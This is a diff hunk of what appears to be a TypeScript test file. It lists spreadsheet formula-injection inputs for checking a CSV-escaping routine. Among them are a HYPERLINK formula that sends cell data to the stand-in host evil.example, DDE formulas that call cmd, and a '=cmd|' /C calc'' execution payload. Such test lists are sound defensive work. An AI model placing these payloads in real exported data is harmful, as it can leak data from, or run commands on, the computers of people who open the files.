@@ -14,8 +14,8 @@ import { drain, words } from './lib/requests.ts'
 const CALL = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
 const FORMULAS = [
   ...words(`
-    =1+1 +1+1 -1+1 ＝1+1 ＋1 －1 ＠x @SUM(A1) '=1+1 ''=1 "=1+1" ";=1+1;" ",=1+1," a,=1+1,b a;-1 a;'=1 a;;=1 ;=1 a|=1+1
-    =DDE("cmd";"/C";"x") =${CALL} a;=${CALL};b O"Neil plain`),
+    =1+1 +1+1 -1+1 ＝1+1 ＋1 －1 ＠x @SUM(A1) '=1+1 ''=1 "=1+1" ";=1+1;" ",=1+1," a,=1+1,b a;-1 a;'=1 a;;=1 ;=1
+    a|=1+1 =DDE("cmd";"/C";"x") =${CALL} a;=${CALL};b O"Neil plain`),
   'a\t=1+1',
   "=cmd|' /C calc'!A0",
   "it's; 'fine'",
